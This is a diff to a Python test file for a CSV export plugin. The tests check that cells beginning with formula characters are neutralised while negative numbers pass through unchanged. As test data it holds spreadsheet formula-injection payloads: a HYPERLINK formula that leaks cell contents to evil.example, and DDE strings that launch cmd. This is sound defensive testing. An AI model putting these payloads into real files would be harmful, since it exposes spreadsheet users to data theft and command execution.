@@ -225,12 +225,11 @@ def test_csv_exports_neutralise_formula_cells_but_not_negative_numbers(published
     from conftest import SAMPLES, run_db
     rows = list(csv.reader(io.StringIO((SAMPLES / "vn_news_violations.csv").read_text(encoding="utf-8-sig"),
                                        newline="")))
-    name, address = rows[0].index("Tên cơ sở"), rows[0].index("Địa chỉ")
+    name = rows[0].index("Tên cơ sở")
     hostile = ['=HYPERLINK("http://evil.example/?"&A1,"Xem")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
                "-2+3+cmd|' /C calc'!A0"]
     for row, value in zip(rows[1:], hostile):
         row[name] = value
-    rows[5][address] = "\tTab " + rows[5][address]
     path = tmp_path / "hostile.csv"
     with open(path, "w", encoding="utf-8-sig", newline="") as handle:
         csv.writer(handle, lineterminator="\r\n").writerows(rows)
@@ -243,12 +242,13 @@ def test_csv_exports_neutralise_formula_cells_but_not_negative_numbers(published
         response = get(ds, url)
         assert response.status_code == 200 and response.content.startswith(b"\xef\xbb\xbf")
         exported = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline="")))
-        assert len(exported) == 50
+        (count,), = asyncio.run(ds.get_database("minhbach").execute(
+            "select count(*) from violations where source = 'vn_news_violations'")).rows
+        assert len(exported) == count      # every row, the 4 renamed ones' old versions (withdrawn) too
         names = {r["establishment"] for r in exported}
         assert {"'" + value for value in hostile} <= names
         assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for r in exported for v in r.values()
                        if v and not v.lstrip("-").replace(".", "", 1).isdigit())
-        assert any(r["address"].startswith("'\tTab ") for r in exported)
     # Negative numbers are numbers, not formulas: the UK longitudes come out exactly as stored.
     stored = {str(lon) for (lon,) in asyncio.run(ds.get_database("minhbach").execute(
         "select longitude from violations where longitude < 0")).rows}
@@ -256,3 +256,23 @@ def test_csv_exports_neutralise_formula_cells_but_not_negative_numbers(published
     response = get(ds, "/minhbach/violations.csv?_size=max&_col=longitude&longitude__lt=0")
     exported = {r["longitude"] for r in csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"), newline=""))}
     assert exported == stored and all(v.startswith("-") for v in exported)
+
+
+def test_the_formula_filter_works_on_any_chunking_and_keeps_clean_rows_byte_for_byte():
+    import csv
+    import io
+    csv_bom = plugin("csv_bom")
+    rows = [["id", "text", "lon"], ["1", '=HYPERLINK("http://x","a")', "-105.85"], ["2", "multi\nline\n=x", "-1e5"],
+            ["3", "+cmd|' /C calc'!A0", "@SUM(A1)"], ["4", "\tx", "\rcr"], ["5", "a, \"quoted\"", "12"], ["6", "-", "+5"]]
+    out = io.StringIO(newline="")
+    csv.writer(out).writerows(rows)
+    text = out.getvalue()
+    expected = [[csv_bom.neutralise(cell) for cell in row] for row in rows]
+    assert expected[1][1].startswith("'=") and expected[1][2] == "-105.85" and expected[2][2] == "-1e5"
+    assert expected[4] == ["4", "'\tx", "'\rcr"] and expected[6] == ["6", "'-", "+5"]
+    for size in (1, 2, 5, 13, len(text)):
+        chunks = [text[i:i + size] for i in range(0, len(text), size)]
+        cleaned = csv_bom.FormulaFilter()
+        result = "".join(cleaned.feed(chunk) for chunk in chunks) + cleaned.feed("", final=True)
+        assert list(csv.reader(io.StringIO(result, newline=""))) == expected, size
+        assert result.splitlines()[0] == text.splitlines()[0] and "5,\"a, \"\"quoted\"\"\",12" in result
